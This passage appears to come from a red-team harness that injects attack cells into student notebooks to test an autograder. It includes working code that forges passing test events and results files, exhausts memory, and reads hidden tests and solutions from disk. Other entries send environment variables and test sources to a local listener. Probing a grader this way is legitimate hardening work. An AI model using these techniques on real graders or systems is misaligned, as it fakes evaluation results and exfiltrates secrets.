                    with open(_os.path.join(_d, "results.json"), "w") as _f:
                        _f.write(_fake)
                except OSError:
                    pass
            _time.sleep(0.05)
    _os._exit(0)
_os.waitpid(_pid, 0)
pairwise_sq_dists = _rt_wrong
''')

attack("c4_slow_memory_eater", 4,
       "a thread allocates 40 MB every 0.2 s, up to 1.6 GB, while the tests run",
       r'''
import threading as _th, time as _time
_hog = []
def _eat():
    for _ in range(40):
        _hog.append(bytearray(b"m" * (40 << 20)))
        _time.sleep(0.2)
    _time.sleep(30)
    _hog.clear()
_th.Thread(target=_eat, daemon=True).start()
pairwise_sq_dists = _rt_wrong
''')

attack("c4_close_and_redirect_std_fds", 4,
       "close fds 0-2 and dup2 the runner's status pipe onto 1 and 2, then print forged events through C-level stdout",
       r'''
_w = _rt_pipes(write=True)
_os.close(0)
if _w:
    _os.dup2(_w[0], 1)
    _os.dup2(_w[0], 2)
import ctypes as _ct
_libc = _ct.CDLL(None)
for _i in ("q1/test_q1_matches_cdist", "q1/test_q1_nonnegative_self_distance"):
    _libc.printf((_json.dumps({"event": "test", "id": _i, "passed": True}) + "\n").encode())
_libc.fflush(None)
pairwise_sq_dists = _rt_wrong
''')

# --------------------------------------------------------------------------- class 5: leaks
attack("c5_hidden_source_in_note_events", 5,
       "from inside the hidden test, copy the batch's test sources into note/cell-error events (shown in results['output'])",
       r'''
def _rt_hook(frame):
    b = _rt_batch_in(frame)
    if b:
        _rt_leak_events(b)
''' + WRAP)

attack("c5_hidden_source_via_restart_cell_error", 5,
       "from the hidden test, save the batch's sources to /tmp and crash the runner; on the rerun a cell raises them as its error",
       r'''
_leak = "__TMP__-leak.txt"
if _os.path.exists(_leak):
    _txt = open(_leak).read()
    _os.remove(_leak)
    pairwise_sq_dists = _rt_wrong
    raise RuntimeError(_txt[-480:])
def _rt_hook(frame):
    b = _rt_batch_in(frame)
    if b and any('"""Hidden' in t["source"] for t in b["tests"]):   # the course's convention
        with open(_leak, "w") as f:
            f.write("\n".join(t["source"] for t in b["tests"]))
        _os._exit(1)
''' + WRAP)

attack("c5_tcp_hidden_source", 5,
       "send the hidden test sources found on the stack to a 127.0.0.1 listener",
       r'''
def _rt_hook(frame):
    b = _rt_batch_in(frame)
    if b:
        _rt_exfil("\n".join(t["source"] for t in b["tests"]))
''' + WRAP)

attack("c5_tcp_from_notebook", 5,
       "connect to a 127.0.0.1 listener while the notebook runs and send the environment and the folder listing",
       r'''
_rt_exfil(_json.dumps({"env": dict(_os.environ), "cwd": _os.getcwd(), "ls": _os.listdir("."),
                       "uid": _os.getuid()}))
pairwise_sq_dists = _rt_wrong
''')

attack("c5_read_tests_from_disk", 5,
       "look for the tests and solutions on disk (/autograder/source, ../source, the judge's temp folders, the checkout the grading interpreter lives in) and raise their text in a public test",
       r'''
import glob as _glob, zipfile as _zf
_found = []
_pats = ["/autograder/source/tests/*.py", "../source/tests/*.py", "../../source/tests/*.py",
         "/tmp/grade.*/autograder/source/tests/*.py", "/tmp/*/tests/q1.py", "/tmp/*/*.zip",
         "/tmp/*/*/*.zip"]
_venv = _os.path.dirname(_os.path.dirname(_os.path.realpath(_sys.executable)))
_repo = _os.path.dirname(_os.path.dirname(_sys.executable))
for _r in {_os.path.dirname(_venv), _os.path.dirname(_repo)}:
    _pats += [_r + "/dist/gradescope/*.zip", _r + "/dist/solution/*/tests/*.py"]
_text = ""
for _p in _pats:
    for _f in _glob.glob(_p, recursive=True)[:20]:
        try:
            if _f.endswith(".zip"):
                with _zf.ZipFile(_f) as _z:
                    _text += "".join(_z.read(n).decode() for n in _z.namelist() if n.startswith("tests/q1"))
            else:
                _text += open(_f).read()
            _found.append(_f)
        except Exception:
            pass
def pairwise_sq_dists(X, Y):
    if _text:
        raise RuntimeError(_text[_text.find("Hidden"):][:1500])
    return _rt_wrong(X, Y)
''')

attack("c5_hidden_docstring_via_frames", 5,
       "read the hidden test's docstring from its code object (co_consts) on the stack and report it in a note",
       r'''
def _rt_hook(frame):
    f, docs = frame, []
    while f is not None:
        if f.f_code.co_filename == "<test>" and f.f_code.co_consts and isinstance(f.f_code.co_consts[0], str):
            docs.append(f.f_code.co_consts[0])
        f = f.f_back
    if docs:
        _rt_send([{"event": "note", "text": " | ".join(docs)[:290]}])
        _rt_exfil(" | ".join(docs))
''' + WRAP)


# --------------------------------------------------------------------------- building


def _code_cell(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
            "source": source}


def _insert_before_check(nb: dict, question: str, source: str) -> dict:
    nb = copy.deepcopy(nb)
    key = f'grader.check("{question}")'
    i = next(i for i, c in enumerate(nb["cells"]) if key in "".join(c["source"]))
    nb["cells"].insert(i, _code_cell(source))
    for k, c in enumerate(nb["cells"]):
        c["id"] = f"cell-{k}"
    return nb


def bases(slug: str) -> dict[str, dict]:
    student = json.loads((config.DIST / "student" / "assignments" / slug / f"{slug}.ipynb").read_text())
    solution = json.loads((config.DIST / "solution" / slug / f"{slug}.ipynb").read_text())
    wrong = {w.question: w for w in mutants.load(config.ASSIGNMENTS / slug / "wrong_answers.py")}
    wrong_q1 = _insert_before_check(mutants.apply(solution, wrong["q1"]), "q1", BASE_Q1)
    return {"blank": student, "wrong_q1": wrong_q1, "wrong_q2": mutants.apply(solution, wrong["q2"])}


BASE_Q1 = """# a wrong q1 answer: right shape, wrong values, fails all three q1 tests
def pairwise_sq_dists(X, Y):
    return -torch.ones(X.shape[0], Y.shape[0], dtype=X.dtype)
"""


def render(a: Attack, port: int, tmp_prefix: str, shm_prefix: str) -> str:
    code = (PRELUDE if a.prelude else "") + a.code
    return (f"# red-team attack {a.name}\n" + code).replace("__PORT__", str(port)) \
        .replace("__TMP__", tmp_prefix).replace("__SHM__", shm_prefix)


def build(a: Attack, base_nbs: dict[str, dict], port: int, tmp_prefix: str, shm_prefix: str) -> dict:
    """The notebook of one attack."""
    question = a.before or {"wrong_q1": "q1", "wrong_q2": "q2", "blank": "q1"}[a.base]
    nb = _insert_before_check(base_nbs[a.base], question, render(a, port, tmp_prefix, shm_prefix))
    if a.name == "c4_sleep_past_total_timeout":  # the same trick in three cells
        for q in ("q4", "q6"):
            nb = _insert_before_check(nb, q, render(a, port, tmp_prefix, shm_prefix))
    return nb
